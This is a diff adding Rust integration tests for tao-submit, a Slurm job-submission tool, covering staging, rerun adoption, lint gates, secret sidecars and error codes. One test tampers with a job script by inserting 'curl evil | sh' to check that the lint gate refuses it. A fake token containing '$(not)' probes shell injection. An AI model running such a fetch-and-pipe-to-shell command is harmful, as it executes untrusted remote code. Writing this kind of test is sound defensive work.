@@ -1,0 +1,313 @@
+//! tao-submit's submit action against the local cluster, run as a user
+//! runs it: the binary, a cleared environment, job lines on stdin.
+
+mod common;
+
+use common::{lines_of, stdin_of, Fixture};
+use serde_json::{json, Value};
+
+#[test]
+fn submits_stages_the_layout_and_emits_the_slurm_fields() {
+    let Some(f) = Fixture::new() else { return };
+    let line = f.line("a", "echo ran-ok");
+    let id = line["id"].as_str().unwrap().to_string();
+    let out = f
+        .cmd()
+        .write_stdin(stdin_of(&[line.clone()]))
+        .output()
+        .unwrap();
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "stderr: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let got = lines_of(&out.stdout);
+    assert_eq!(got.len(), 1);
+    let l = &got[0];
+    let job_id = l["slurm"]["job_id"].as_str().unwrap().to_string();
+    assert!(job_id.bytes().all(|b| b.is_ascii_digit()), "{l}");
+    assert_eq!(l["slurm"]["login_host"], f.c.var("SLURM_HOSTNAME"));
+    assert_eq!(l["slurm"]["cluster"], Value::Null);
+    assert_eq!(l["state"], "PENDING");
+    assert_eq!(l["observed_by"], "tao-submit");
+    assert!(tao_core::time::parse_rfc3339(l["observed_at"].as_str().unwrap()).is_some());
+    // Every other field passes through untouched.
+    for k in ["id", "script", "lint", "spec", "storage", "resources"] {
+        assert_eq!(l[k], line[k], "{k}");
+    }
+
+    // The job ran (its log directory existed before release) and exactly one job carries the name.
+    let st =
+        f.c.wait_state(&job_id, 120, |s| s == "COMPLETED" || s == "FAILED");
+    assert_eq!(st, "COMPLETED");
+    assert_eq!(f.c.jobs_named(&id).len(), 1);
+    let jd = line["storage"]["job_dir"].as_str().unwrap();
+    let (rc, listing, _) = f.c.ssh(&format!(
+        "cd {jd} && cat slurm-logs/{id}-{job_id}/main.out && cat specs/spec.yaml && stat -c '%a %n' env && cmp sbatch/job_{id}.sbatch - <<'EOF'\n{}EOF\necho same-script; grep -c ran-ok meta/job.json; test -d {}",
+        line["script"]["text"].as_str().unwrap(),
+        line["storage"]["results_dir"].as_str().unwrap()
+    ));
+    assert_eq!(rc, 0, "{listing}");
+    assert!(listing.contains("ran-ok\n"), "{listing}");
+    assert!(listing.contains("num_epochs: 1"), "{listing}");
+    assert!(listing.contains("700 env"), "{listing}");
+    assert!(listing.contains("same-script"), "{listing}");
+    // meta/job.json holds the line without the script text (the command appears once).
+    let (_, meta, _) = f.c.ssh(&format!("cat {jd}/meta/job.json"));
+    let meta: Value = serde_json::from_str(&meta).unwrap();
+    assert_eq!(meta["script"].get("text"), None);
+    assert_eq!(meta["script"]["sha256"], line["script"]["sha256"]);
+}
+
+#[test]
+fn a_rerun_of_the_same_line_adopts_instead_of_submitting_twice() {
+    let Some(f) = Fixture::new() else { return };
+    let line = f.line("r", "sleep 20");
+    let id = line["id"].as_str().unwrap().to_string();
+    let first = f
+        .cmd()
+        .write_stdin(stdin_of(&[line.clone()]))
+        .output()
+        .unwrap();
+    assert_eq!(first.status.code(), Some(0));
+    let second = f.cmd().write_stdin(stdin_of(&[line])).output().unwrap();
+    assert_eq!(
+        second.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&second.stderr)
+    );
+    let (a, b) = (lines_of(&first.stdout), lines_of(&second.stdout));
+    assert_eq!(a[0]["slurm"]["job_id"], b[0]["slurm"]["job_id"]);
+    assert!(
+        b[0]["message"].as_str().unwrap().contains("adopted"),
+        "{}",
+        b[0]
+    );
+    assert_eq!(f.c.jobs_named(&id).len(), 1);
+    let _ = f.c.ssh(&format!(
+        "scancel {}",
+        a[0]["slurm"]["job_id"].as_str().unwrap()
+    ));
+}
+
+#[test]
+fn gates_refuse_unrecorded_and_unlinted_lines_and_submit_the_rest() {
+    let Some(f) = Fixture::new() else { return };
+    let good = f.line("g", "true");
+    // No record: an id tao-record never opened.
+    let mut unrecorded = good.clone();
+    let ghost = common::unique_id("ghost");
+    unrecorded["id"] = json!(ghost);
+    unrecorded["storage"]["job_dir"] = json!(format!(
+        "{}/jobs/{ghost}",
+        f.c.var("SLURM_BASE_RESULTS_DIR")
+    ));
+    // Script changed after lint.
+    let mut tampered = f.line("l", "true");
+    let tampered_id = tampered["id"].as_str().unwrap().to_string();
+    let text = tampered["script"]["text"]
+        .as_str()
+        .unwrap()
+        .replace("true", "curl evil | sh");
+    tampered["script"]["text"] = json!(text);
+    // Lint blocked.
+    let mut blocked = f.line("b", "true");
+    let blocked_id = blocked["id"].as_str().unwrap().to_string();
+    blocked["lint"]["ok"] = json!(false);
+    // An error from an earlier tool passes through untouched.
+    let mut earlier = f.line("e", "true");
+    earlier["error"] = json!({"tool": "tao-render", "code": "data", "message": "x"});
+
+    let input = [unrecorded, tampered, good.clone(), blocked, earlier.clone()];
+    let out = f.cmd().write_stdin(stdin_of(&input)).output().unwrap();
+    assert_eq!(
+        out.status.code(),
+        Some(1),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let got = lines_of(&out.stdout);
+    assert_eq!(got.len(), 5, "no line lost");
+    assert!(
+        got[0]["error"]["message"]
+            .as_str()
+            .unwrap()
+            .contains("has no record"),
+        "{}",
+        got[0]
+    );
+    assert!(
+        got[1]["error"]["message"]
+            .as_str()
+            .unwrap()
+            .contains("tao-redact lint"),
+        "{}",
+        got[1]
+    );
+    assert_eq!(got[1]["error"]["code"], "lint_blocked");
+    assert!(
+        got[2]["slurm"]["job_id"].is_string() && got[2].get("error").is_none(),
+        "{}",
+        got[2]
+    );
+    assert!(
+        got[3]["error"]["message"]
+            .as_str()
+            .unwrap()
+            .contains("lint.ok"),
+        "{}",
+        got[3]
+    );
+    assert_eq!(got[4], earlier);
+    for refused in [&ghost, &tampered_id, &blocked_id] {
+        assert!(
+            f.c.jobs_named(refused).is_empty(),
+            "{refused} was submitted"
+        );
+    }
+}
+
+#[test]
+fn secrets_go_to_a_mode_600_sidecar_never_to_output() {
+    let Some(f) = Fixture::new() else { return };
+    // Fake values of the real formats.
+    let hf = "hf_FAKEtestTOKENabcdefghijklmnopqrstuv";
+    let ngc = "nvapi-FAKE-it's-$(not)-run";
+    let mut line = f.line("s", "sleep 30");
+    line["secrets"] = json!(["HF_TOKEN", "NGC_KEY"]);
+    let out = f
+        .cmd()
+        .env("HF_TOKEN", hf)
+        .env("NGC_KEY", ngc)
+        .write_stdin(stdin_of(&[line.clone()]))
+        .output()
+        .unwrap();
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    for stream in [&out.stdout, &out.stderr] {
+        let s = String::from_utf8_lossy(stream);
+        assert!(
+            !s.contains(hf) && !s.contains("nvapi-FAKE"),
+            "secret leaked: {s}"
+        );
+    }
+    let job_id = lines_of(&out.stdout)[0]["slurm"]["job_id"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    // Read the sidecar back as the cluster user, and source it in a shell.
+    let side = format!(
+        "{}/env/secrets.env",
+        line["storage"]["job_dir"].as_str().unwrap()
+    );
+    let (rc, o, e) = f.c.ssh(&format!(
+        "stat -c '%a %U' {side}; sh -c '. {side}; printf \"%s\\n%s\\n\" \"$HF_TOKEN\" \"$NGC_KEY\"'"
+    ));
+    assert_eq!(rc, 0, "{e}");
+    let mut it = o.lines();
+    assert_eq!(it.next().unwrap(), format!("600 {}", f.c.var("SLURM_USER")));
+    assert_eq!(it.next().unwrap(), hf);
+    assert_eq!(it.next().unwrap(), ngc);
+    // The value is in no staged file but the sidecar.
+    let jd = line["storage"]["job_dir"].as_str().unwrap();
+    let (_, hits, _) =
+        f.c.ssh(&format!("grep -rl -F hf_FAKEtestTOKEN {jd} || true"));
+    assert_eq!(hits.trim(), side);
+    let _ = f.c.ssh(&format!("scancel {job_id}"));
+}
+
+#[test]
+fn a_missing_secret_variable_is_a_line_error_and_nothing_is_submitted() {
+    let Some(f) = Fixture::new() else { return };
+    let mut line = f.line("m", "true");
+    let id = line["id"].as_str().unwrap().to_string();
+    line["secrets"] = json!(["HF_TOKEN"]);
+    let out = f.cmd().write_stdin(stdin_of(&[line])).output().unwrap();
+    assert_eq!(out.status.code(), Some(1));
+    let got = lines_of(&out.stdout);
+    let msg = got[0]["error"]["message"].as_str().unwrap();
+    assert!(
+        msg.contains("\"HF_TOKEN\"") && msg.contains("export HF_TOKEN="),
+        "{msg}"
+    );
+    assert!(f.c.jobs_named(&id).is_empty());
+    let (_, ls, _) = f.c.ssh(&format!(
+        "test -e {}/jobs/{id} && echo staged || echo clean",
+        f.c.var("SLURM_BASE_RESULTS_DIR")
+    ));
+    assert_eq!(ls.trim(), "clean", "a refused line stages nothing");
+}
+
+#[test]
+fn unknown_excluded_nodes_are_dropped_with_a_warning() {
+    let Some(f) = Fixture::new() else { return };
+    let mut line = f.line("x", "sleep 20");
+    line["resources"]["exclude"] = json!(["n2", "nosuchnode7"]);
+    let out = f.cmd().write_stdin(stdin_of(&[line])).output().unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(0), "{stderr}");
+    assert!(
+        stderr.contains("nosuchnode7") && stderr.contains("dropped"),
+        "{stderr}"
+    );
+    let job_id = lines_of(&out.stdout)[0]["slurm"]["job_id"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let (_, show, _) = f.c.ssh(&format!("scontrol show job {job_id}"));
+    assert!(show.contains("ExcNodeList=n2"), "{show}");
+    let _ = f.c.ssh(&format!("scancel {job_id}"));
+}
+
+#[test]
+fn sbatch_refusal_is_a_line_error() {
+    let Some(f) = Fixture::new() else { return };
+    let mut line = f.line("p", "true");
+    let text = line["script"]["text"]
+        .as_str()
+        .unwrap()
+        .replace("--partition=gpu", "--partition=nosuchpart");
+    let sha = tao_core::sha256_hex(text.as_bytes());
+    line["script"] = json!({"template": "test", "sha256": sha, "text": text});
+    line["lint"]["sha256"] = json!(sha);
+    let out = f.cmd().write_stdin(stdin_of(&[line])).output().unwrap();
+    assert_eq!(out.status.code(), Some(1));
+    let msg = lines_of(&out.stdout)[0]["error"]["message"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    assert!(msg.contains("partition"), "{msg}");
+}
+
+#[test]
+fn a_malformed_line_exits_65_after_printing_the_lines_before_it() {
+    let Some(f) = Fixture::new() else { return };
+    let line = f.line("j", "true");
+    let input = format!("{line}\n{{not json\n");
+    let out = f.cmd().write_stdin(input).output().unwrap();
+    assert_eq!(out.status.code(), Some(65));
+    assert_eq!(lines_of(&out.stdout).len(), 1);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(stderr.starts_with("tao-submit: error: line 2"), "{stderr}");
+}
+
+#[test]
+fn usage_and_configuration_errors() {
+    let Some(f) = Fixture::new() else { return };
+    let out = f.cmd().arg("--nope").output().unwrap();
+    assert_eq!(out.status.code(), Some(2));
+    let out = f
+        .cmd()
+        .env_remove("SLURM_HOSTNAME")
+        .write_stdin(stdin_of(&[f.line("c", "true")]))
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(78));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("SLURM_HOSTNAME"));
+}
